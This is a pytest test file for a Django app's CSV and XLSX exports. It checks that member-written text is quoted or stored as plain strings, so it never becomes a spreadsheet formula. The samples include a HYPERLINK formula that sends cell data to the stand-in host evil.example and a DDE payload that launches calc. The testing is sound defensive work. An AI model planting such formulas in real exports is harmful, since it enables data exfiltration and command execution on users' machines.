"""Text a member wrote never becomes a spreadsheet formula, in any export (OWASP CSV
injection): CSV cells that could start a formula get a leading ', XLSX cells are string
cells, and characters a worksheet cannot hold do not break the export."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from qunyun.conftest import channel, message, utc
from qunyun.ingest.pipeline import do_import_records
from qunyun.members.models import Member
from qunyun.privacy.actions import do_export_pseudonymized
from qunyun.workspaces.models import Workspace

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
#: Every start a spreadsheet may read as a formula, and what the CSV cell must hold.
STARTS = {
    EVIL: "'" + EVIL,
    "+1+2": "'+1+2",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
}


@pytest.fixture
def community(workspace: Workspace) -> Workspace:
    records: list[Any] = [channel()]
    for number, name in enumerate([*STARTS, "控制\x01字符", "普通成员"]):
        for day in range(3):  # enough activity to be a top contributor
            records.append(
                message(f"{number}-{day}", utc(2026, 3, 1 + day, 12), f"u{number}", name=name)
            )
    do_import_records(workspace, records, file_name="t", format_name="jsonl")
    return workspace


def download(client: Any, table: str, fmt: str) -> bytes:
    response = client.get(reverse("export_table", args=["acme", table, fmt]))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_cells(content: bytes) -> set[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return {cell for row in rows for cell in row}


def xlsx_cells(content: bytes) -> list[Any]:
    """Every cell of every sheet, loaded fully so that formula cells show as such."""
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    texts = {cell.value for cell in xlsx_cells(content) if cell.data_type == "s"}
    assert EVIL in texts
    assert not [cell.coordinate for cell in xlsx_cells(content) if cell.data_type == "f"]


@pytest.mark.parametrize("table", ["members", "top-contributors"])
def test_csv_exports_quote_every_formula_start(
    client: Any, alice: Any, community: Any, table: str
) -> None:
    client.force_login(alice)

    cells = csv_cells(download(client, table, "csv"))

    for written, expected in STARTS.items():
        if table == "members" or written in (EVIL, "普通成员"):
            assert expected in cells, (table, written)
            assert written not in cells
    assert "普通成员" in cells  # plain text is left alone


@pytest.mark.parametrize("table", ["members", "top-contributors"])
def test_xlsx_exports_hold_text_never_a_formula(
    client: Any, alice: Any, community: Any, table: str
) -> None:
    client.force_login(alice)

    content = download(client, table, "xlsx")

    assert_no_formula(content)
    if table == "members":
        names = {cell.value for cell in xlsx_cells(content)}
        assert "控制字符" in names  # the control character is dropped, the export not


def test_a_members_data_export_holds_text_never_a_formula(
    community: Workspace, tmp_path: Path
) -> None:
    member = Member.objects.get(workspace=community, display_name=EVIL)

    call_command("privacy", "export", "--workspace", "acme", "--member", str(member.pk),
                 "--out", str(tmp_path / "m.xlsx"))  # fmt: skip

    assert_no_formula((tmp_path / "m.xlsx").read_bytes())


def test_the_pseudonymized_export_goes_through_the_same_writer(community: Workspace) -> None:
    member = Member.objects.get(workspace=community, display_name=EVIL)
    member.segment = "=cmd|'/C calc'"  # whatever lands in a column is written safely
    member.save(update_fields=["segment"])

    with zipfile.ZipFile(io.BytesIO(do_export_pseudonymized(community))) as archive:
        members = archive.read("members.csv").decode()

    assert "'=cmd|'/C calc'" in members
    assert "\n=cmd" not in members and ",=cmd" not in members
